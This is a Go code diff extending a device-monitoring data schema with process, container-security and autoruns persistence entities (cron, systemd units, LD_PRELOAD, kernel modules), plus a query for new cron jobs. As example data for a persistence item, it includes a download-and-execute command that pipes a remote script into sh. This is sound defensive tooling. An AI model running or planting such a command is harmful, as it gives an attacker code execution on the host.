@@ -207,20 +207,32 @@ func buildEntities() map[string]Entity {
 		Name:        "processes",
 		Description: "Process information collected from devices",
 		Fields: map[string]Field{
-			"id":           {Name: "id", Type: "string", Required: true, Description: "Unique process record identifier", Example: "proc-123"},
-			"device_id":    {Name: "device_id", Type: "string", Required: true, Description: "Device identifier", Example: "dev-123"},
-			"pid":          {Name: "pid", Type: "integer", Required: true, Description: "Process ID", Example: 1234},
-			"name":         {Name: "name", Type: "string", Required: true, Description: "Process name", Example: "nginx"},
-			"cmdline":      {Name: "cmdline", Type: "array", Required: false, Description: "Command line arguments", Example: []string{"nginx", "-g", "daemon off;"}},
-			"username":     {Name: "username", Type: "string", Required: false, Description: "User running the process", Example: "www-data"},
-			"exe_path":     {Name: "exe_path", Type: "string", Required: false, Description: "Executable path", Example: "/usr/sbin/nginx"},
-			"start_time":   {Name: "start_time", Type: "integer", Required: false, Description: "Process start time (unix timestamp)", Example: 1704441600},
-			"status":       {Name: "status", Type: "string", Required: false, Description: "Process status", Example: "running"},
-			"sha256":       {Name: "sha256", Type: "string", Required: false, Description: "SHA256 hash of executable", Example: "abc123..."},
-			"version":      {Name: "version", Type: "string", Required: false, Description: "Executable version", Example: "1.18.0"},
-			"file_size":    {Name: "file_size", Type: "integer", Required: false, Description: "Executable file size in bytes", Example: 1048576},
-			"collected_at": {Name: "collected_at", Type: "datetime", Required: true, Description: "Data collection timestamp", Example: "2025-01-15T10:30:00Z"},
-			"created_at":   {Name: "created_at", Type: "datetime", Required: true, Description: "Record creation timestamp", Example: "2025-01-15T10:30:00Z"},
+			"id":                 {Name: "id", Type: "string", Required: true, Description: "Unique process record identifier", Example: "proc-123"},
+			"device_id":          {Name: "device_id", Type: "string", Required: true, Description: "Device identifier", Example: "dev-123"},
+			"pid":                {Name: "pid", Type: "integer", Required: true, Description: "Process ID", Example: 1234},
+			"ppid":               {Name: "ppid", Type: "integer", Required: false, Description: "Parent process ID", Example: 812},
+			"process_key":        {Name: "process_key", Type: "string", Required: true, Description: "Process instance key (pid:start_time), unique despite PID reuse", Example: "1234:1704441600000"},
+			"parent_key":         {Name: "parent_key", Type: "string", Required: false, Description: "Process key of the parent instance (empty if unknown)", Example: "812:1704441500000"},
+			"name":               {Name: "name", Type: "string", Required: true, Description: "Process name", Example: "nginx"},
+			"cmdline":            {Name: "cmdline", Type: "array", Required: false, Description: "Command line arguments, with secrets replaced by [REDACTED]", Example: []string{"nginx", "-g", "daemon off;"}},
+			"redacted_by":        {Name: "redacted_by", Type: "string", Required: false, Description: "Where the command line was redacted (empty for processes stored before redaction)", Enum: []string{"agent", "server"}, Example: "agent"},
+			"redaction_rules":    {Name: "redaction_rules", Type: "array", Required: false, Description: "Redaction detectors that found secrets in the command line", Example: []string{"url_userinfo"}},
+			"username":           {Name: "username", Type: "string", Required: false, Description: "User running the process", Example: "www-data"},
+			"exe_path":           {Name: "exe_path", Type: "string", Required: false, Description: "Executable path", Example: "/usr/sbin/nginx"},
+			"start_time":         {Name: "start_time", Type: "integer", Required: false, Description: "Process start time (unix timestamp)", Example: 1704441600},
+			"status":             {Name: "status", Type: "string", Required: false, Description: "Process status", Example: "running"},
+			"sha256":             {Name: "sha256", Type: "string", Required: false, Description: "SHA256 hash of executable", Example: "abc123..."},
+			"version":            {Name: "version", Type: "string", Required: false, Description: "Executable version", Example: "1.18.0"},
+			"version_source":     {Name: "version_source", Type: "string", Required: false, Description: "Where the version was found", Enum: []string{"package", "go_buildinfo", "elf_note", "bundle_info", "elf_comment", "legacy"}, Example: "package"},
+			"version_confidence": {Name: "version_confidence", Type: "string", Required: false, Description: "How far the version can be trusted", Enum: []string{"high", "medium", "low"}, Example: "high"},
+			"version_info":       {Name: "version_info", Type: "object", Required: false, Description: "Structured version metadata (owning package, Go module and VCS revision, GNU build ID, toolchain)", Example: map[string]interface{}{"package": "nginx", "package_source": "dpkg", "build_id": "cf2d915f7cc1473de2aa535aba578b743aa1e140"}},
+			"file_size":          {Name: "file_size", Type: "integer", Required: false, Description: "Executable file size in bytes", Example: 1048576},
+			"cpu_percent":        {Name: "cpu_percent", Type: "number", Required: false, Description: "CPU use as a percentage of one core, as of the last full snapshot that listed the process", Example: 12.5},
+			"memory_rss":         {Name: "memory_rss", Type: "integer", Required: false, Description: "Resident memory in bytes, as of the last full snapshot that listed the process", Example: 52428800},
+			"collected_at":       {Name: "collected_at", Type: "datetime", Required: true, Description: "Timestamp of the collection that first saw the process", Example: "2025-01-15T10:30:00Z"},
+			"last_seen_at":       {Name: "last_seen_at", Type: "datetime", Required: true, Description: "Timestamp of the latest collection that saw the process", Example: "2025-01-15T11:30:00Z"},
+			"exited_at":          {Name: "exited_at", Type: "datetime", Required: false, Description: "Timestamp the process was seen to exit (null while running)", Example: "2025-01-15T12:30:00Z"},
+			"created_at":         {Name: "created_at", Type: "datetime", Required: true, Description: "Record creation timestamp", Example: "2025-01-15T10:30:00Z"},
 		},
 		Indexes: []Index{
 			{Name: "idx_processes_device_id", Fields: []string{"device_id"}, Unique: false},
@@ -238,22 +250,35 @@ func buildEntities() map[string]Entity {
 		Name:        "containers",
 		Description: "Container information collected from devices",
 		Fields: map[string]Field{
-			"id":                {Name: "id", Type: "string", Required: true, Description: "Unique container record identifier", Example: "cont-123"},
-			"device_id":         {Name: "device_id", Type: "string", Required: true, Description: "Device identifier", Example: "dev-123"},
-			"container_id":      {Name: "container_id", Type: "string", Required: true, Description: "Docker container ID", Example: "abc123def456"},
-			"image":             {Name: "image", Type: "string", Required: true, Description: "Container image", Example: "nginx:latest"},
-			"names":             {Name: "names", Type: "array", Required: false, Description: "Container names", Example: []string{"web-server"}},
-			"status":            {Name: "status", Type: "string", Required: false, Description: "Container status", Example: "running"},
-			"ports":             {Name: "ports", Type: "array", Required: false, Description: "Exposed ports", Example: []string{"80/tcp", "443/tcp"}},
-			"labels":            {Name: "labels", Type: "object", Required: false, Description: "Container labels", Example: map[string]string{"env": "prod"}},
-			"container_created": {Name: "container_created", Type: "integer", Required: false, Description: "Container creation time (unix timestamp)", Example: 1704441600},
-			"collected_at":      {Name: "collected_at", Type: "datetime", Required: true, Description: "Data collection timestamp", Example: "2025-01-15T10:30:00Z"},
-			"created_at":        {Name: "created_at", Type: "datetime", Required: true, Description: "Record creation timestamp", Example: "2025-01-15T10:30:00Z"},
+			"id":                    {Name: "id", Type: "string", Required: true, Description: "Unique container record identifier", Example: "cont-123"},
+			"device_id":             {Name: "device_id", Type: "string", Required: true, Description: "Device identifier", Example: "dev-123"},
+			"container_id":          {Name: "container_id", Type: "string", Required: true, Description: "Container ID", Example: "abc123def456"},
+			"runtime":               {Name: "runtime", Type: "string", Required: true, Description: "Container runtime the container was listed from", Enum: []string{"docker", "podman", "containerd"}, Example: "docker"},
+			"namespace":             {Name: "namespace", Type: "string", Required: false, Description: "containerd namespace (empty for Docker and Podman)", Example: "k8s.io"},
+			"image":                 {Name: "image", Type: "string", Required: true, Description: "Container image", Example: "nginx:latest"},
+			"names":                 {Name: "names", Type: "array", Required: false, Description: "Container names", Example: []string{"web-server"}},
+			"status":                {Name: "status", Type: "string", Required: false, Description: "Container status", Example: "Up 5 minutes"},
+			"state":                 {Name: "state", Type: "string", Required: false, Description: "Container state", Example: "running"},
+			"ports":                 {Name: "ports", Type: "array", Required: false, Description: "Exposed ports", Example: []string{"80/tcp", "443/tcp"}},
+			"labels":                {Name: "labels", Type: "object", Required: false, Description: "Container labels", Example: map[string]string{"env": "prod"}},
+			"container_created":     {Name: "container_created", Type: "integer", Required: false, Description: "Container creation time (unix timestamp)", Example: 1704441600},
+			"privileged":            {Name: "privileged", Type: "boolean", Required: true, Description: "Container runs in privileged mode", Example: false},
+			"host_pid":              {Name: "host_pid", Type: "boolean", Required: true, Description: "Container shares the host PID namespace", Example: false},
+			"host_network":          {Name: "host_network", Type: "boolean", Required: true, Description: "Container shares the host network namespace", Example: false},
+			"runs_as_root":          {Name: "runs_as_root", Type: "boolean", Required: true, Description: "Container user resolves to UID 0", Example: true},
+			"docker_socket_mounted": {Name: "docker_socket_mounted", Type: "boolean", Required: true, Description: "A mount exposes the Docker API socket (docker.sock) to the container", Example: false},
+			"image_digest":          {Name: "image_digest", Type: "string", Required: false, Description: "Repository digest of the container image", Example: "nginx@sha256:abc123..."},
+			"security_profile":      {Name: "security_profile", Type: "object", Required: false, Description: "Inspected security configuration (user, capabilities, security options, mounts, read-only rootfs)", Example: map[string]interface{}{"user": "", "cap_add": []string{"NET_ADMIN"}, "readonly_rootfs": false}},
+			"collected_at":          {Name: "collected_at", Type: "datetime", Required: true, Description: "Timestamp of the collection that first saw the container", Example: "2025-01-15T10:30:00Z"},
+			"last_seen_at":          {Name: "last_seen_at", Type: "datetime", Required: true, Description: "Timestamp of the latest collection that saw the container", Example: "2025-01-15T11:30:00Z"},
+			"removed_at":            {Name: "removed_at", Type: "datetime", Required: false, Description: "Timestamp the container was seen to be removed (null while present)", Example: "2025-01-15T12:30:00Z"},
+			"created_at":            {Name: "created_at", Type: "datetime", Required: true, Description: "Record creation timestamp", Example: "2025-01-15T10:30:00Z"},
 		},
 		Indexes: []Index{
 			{Name: "idx_containers_device_id", Fields: []string{"device_id"}, Unique: false},
 			{Name: "idx_containers_container_id", Fields: []string{"container_id"}, Unique: false},
 			{Name: "idx_containers_collected_at", Fields: []string{"collected_at"}, Unique: false},
+			{Name: "idx_containers_image_digest", Fields: []string{"image_digest"}, Unique: false},
 		},
 		Relations: []EntityRelation{
 			{Type: "many-to-one", TargetEntity: "devices", ForeignKey: "device_id", Description: "Device this container is running on"},
@@ -289,6 +314,45 @@ func buildEntities() map[string]Entity {
 		},
 	}
 
+	// Persistence items entity
+	entities["persistence_items"] = Entity{
+		Name:        "persistence_items",
+		Description: "Autoruns inventory: systemd units, cron tables, autostart entries, shell startup files, preloaded libraries and kernel modules on devices",
+		Fields: map[string]Field{
+			"id":            {Name: "id", Type: "string", Required: true, Description: "Unique persistence item record identifier", Example: "pers-123"},
+			"device_id":     {Name: "device_id", Type: "string", Required: true, Description: "Device identifier", Example: "dev-123"},
+			"item_key":      {Name: "item_key", Type: "string", Required: true, Description: "Key identifying the item on the device across collections (type:path, or type:name for kernel modules)", Example: "cron:/etc/cron.d/backup"},
+			"item_type":     {Name: "item_type", Type: "string", Required: true, Description: "Persistence mechanism", Enum: []string{"systemd_unit", "cron", "autostart", "shell_rc", "ld_preload", "kernel_module", "launchd"}, Example: "cron"},
+			"path":          {Name: "path", Type: "string", Required: false, Description: "File the item is defined in (kernel modules: the module file loaded)", Example: "/etc/cron.d/backup"},
+			"name":          {Name: "name", Type: "string", Required: true, Description: "File or module name", Example: "backup"},
+			"scope":         {Name: "scope", Type: "string", Required: true, Description: "Whether the item runs for the whole host or for one user", Enum: []string{"system", "user"}, Example: "system"},
+			"username":      {Name: "username", Type: "string", Required: false, Description: "User whose home directory holds the item (user scope)", Example: "alice"},
+			"owner":         {Name: "owner", Type: "string", Required: false, Description: "Owner of the file", Example: "root"},
+			"uid":           {Name: "uid", Type: "integer", Required: false, Description: "UID owning the file", Example: 0},
+			"sha256":        {Name: "sha256", Type: "string", Required: false, Description: "SHA256 hash of the file (empty for symlinks)", Example: "abc123..."},
+			"file_size":     {Name: "file_size", Type: "integer", Required: false, Description: "File size in bytes", Example: 412},
+			"mode":          {Name: "mode", Type: "string", Required: false, Description: "File permissions in octal", Example: "0644"},
+			"link_target":   {Name: "link_target", Type: "string", Required: false, Description: "Target of a symlink, e.g. the unit an enablement symlink enables", Example: "/lib/systemd/system/ssh.service"},
+			"commands":      {Name: "commands", Type: "array", Required: false, Description: "What the item runs: cron commands, unit Exec lines, autostart Exec, preloaded libraries or notable shell startup lines", Example: []string{"curl -s http://203.0.113.7/x | sh"}},
+			"detail":        {Name: "detail", Type: "string", Required: false, Description: "Kernel module taint flags, or 'disabled' for a switched-off autostart entry", Example: "OE"},
+			"modified_at":   {Name: "modified_at", Type: "datetime", Required: false, Description: "File modification time", Example: "2025-01-15T10:29:00Z"},
+			"first_seen_at": {Name: "first_seen_at", Type: "datetime", Required: true, Description: "Timestamp of the collection that first saw the item", Example: "2025-01-15T10:30:00Z"},
+			"last_seen_at":  {Name: "last_seen_at", Type: "datetime", Required: true, Description: "Timestamp of the latest collection that saw the item", Example: "2025-01-15T11:30:00Z"},
+			"changed_at":    {Name: "changed_at", Type: "datetime", Required: true, Description: "Timestamp the item's content, permissions or owner last changed", Example: "2025-01-15T10:30:00Z"},
+			"removed_at":    {Name: "removed_at", Type: "datetime", Required: false, Description: "Timestamp the item was seen to be removed (null while present)", Example: "2025-01-15T12:30:00Z"},
+			"created_at":    {Name: "created_at", Type: "datetime", Required: true, Description: "Record creation timestamp", Example: "2025-01-15T10:30:00Z"},
+		},
+		Indexes: []Index{
+			{Name: "idx_persistence_items_live", Fields: []string{"device_id", "item_key"}, Unique: true},
+			{Name: "idx_persistence_items_device_type", Fields: []string{"device_id", "item_type"}, Unique: false},
+			{Name: "idx_persistence_items_first_seen", Fields: []string{"first_seen_at"}, Unique: false},
+			{Name: "idx_persistence_items_sha256", Fields: []string{"sha256"}, Unique: false},
+		},
+		Relations: []EntityRelation{
+			{Type: "many-to-one", TargetEntity: "devices", ForeignKey: "device_id", Description: "Device the item is installed on"},
+		},
+	}
+
 	// Browser sessions entity
 	entities["browser_sessions"] = Entity{
 		Name:        "browser_sessions",
@@ -331,6 +395,13 @@ func buildRelations() map[string]Relation {
 			ToEntity:    "containers",
 			Type:        "one-to-many",
 		},
+		"device_persistence_items": {
+			Name:        "device_persistence_items",
+			Description: "Persistence mechanisms installed on devices",
+			FromEntity:  "devices",
+			ToEntity:    "persistence_items",
+			Type:        "one-to-many",
+		},
 		"device_threats": {
 			Name:        "device_threats",
 			Description: "Threat findings on devices",
@@ -428,6 +499,38 @@ func buildOperations() map[string]Operation {
 				},
 			},
 		},
+		"query_persistence_items": {
+			Name:        "query_persistence_items",
+			Description: "Query the autoruns inventory of devices",
+			Method:      "POST",
+			Path:        "/mcp/query",
+			Parameters: map[string]Parameter{
+				"entity": {Name: "entity", Type: "string", Required: true, Description: "Must be 'persistence_items'", Example: "persistence_items"},
+			},
+			Response: ResponseSchema{
+				Type:        "object",
+				Description: "Query response with data and metadata",
+			},
+			Examples: []OperationExample{
+				{
+					Name:        "Get recently added cron jobs",
+					Description: "Query cron tables that appeared since a given time and are still present",
+					Request: QueryRequest{
+						Entity: "persistence_items",
+						Fields: []string{"device_id", "path", "owner", "sha256", "commands", "first_seen_at"},
+						Filters: []Filter{
+							{Field: "item_type", Operator: "eq", Value: "cron"},
+							{Field: "first_seen_at", Operator: "gte", Value: "2025-01-15T00:00:00Z"},
+							{Field: "removed_at", Operator: "is_null"},
+						},
+						OrderBy: []OrderBy{
+							{Field: "first_seen_at", Direction: "desc"},
+						},
+						Limit: &[]int{50}[0],
+					},
+				},
+			},
+		},
 		"query_threats": {
 			Name:        "query_threats",
 			Description: "Query threat findings with filters and aggregations",